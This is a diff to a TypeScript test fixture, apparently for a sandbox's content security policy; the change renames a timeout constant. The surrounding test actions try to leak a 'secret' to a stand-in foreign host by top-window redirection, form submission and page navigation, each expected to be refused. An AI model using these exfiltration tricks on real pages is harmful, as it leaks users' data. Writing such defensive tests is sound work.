@@ -13,14 +13,14 @@ interface Action {
 
 export const foreign = 'http://127.0.0.1:9';
 /** Milliseconds after which an action without a result counts as refused. */
-const patience = 1_500;
+const refusalTimeoutMs = 1_500;
 
 const got =
   'if (!answer.ok) throw new Error("answered " + answer.status); return "answered " + answer.status;';
 const call = (address: string, init = '{}') =>
   `const answer = await fetch(${JSON.stringify(address)}, ${init}); ${got}`;
 const frame = (inner: string) => `await new Promise((resolve, reject) => {
-  setTimeout(() => reject(new Error('nothing came of it')), ${patience}); ${inner} });`;
+  setTimeout(() => reject(new Error('nothing came of it')), ${refusalTimeoutMs}); ${inner} });`;
 
 /** In order; the last ones may leave the page. */
 export const actions: Action[] = [
@@ -127,7 +127,7 @@ export const actions: Action[] = [
   },
   {
     name: 'take the whole window elsewhere',
-    code: `window.top.location.href = '${foreign}/top?secret'; await new Promise((resolve) => setTimeout(resolve, ${patience})); return 'left';`,
+    code: `window.top.location.href = '${foreign}/top?secret'; await new Promise((resolve) => setTimeout(resolve, ${refusalTimeoutMs})); return 'left';`,
     told: /navigate/,
   },
   {
@@ -135,12 +135,12 @@ export const actions: Action[] = [
     code: `const form = document.createElement('form'); form.action = '${foreign}/form?secret'; form.method = 'post'; document.body.append(form);
       await new Promise((resolve, reject) => {
         document.addEventListener('securitypolicyviolation', () => reject(new Error('refused')), { once: true });
-        setTimeout(resolve, ${patience}); form.submit(); }); return 'sent';`,
+        setTimeout(resolve, ${refusalTimeoutMs}); form.submit(); }); return 'sent';`,
     told: /(?:form-action|frame-src) http:\/\/127\.0\.0\.1:9/,
   },
   {
     name: 'go elsewhere itself, with what it knows in the address',
-    code: `location.href = '${foreign}/left?secret'; await new Promise((resolve) => setTimeout(resolve, ${patience})); return 'left';`,
+    code: `location.href = '${foreign}/left?secret'; await new Promise((resolve) => setTimeout(resolve, ${refusalTimeoutMs})); return 'left';`,
     told: /frame-src http:\/\/127\.0\.0\.1:9/,
   },
 ];
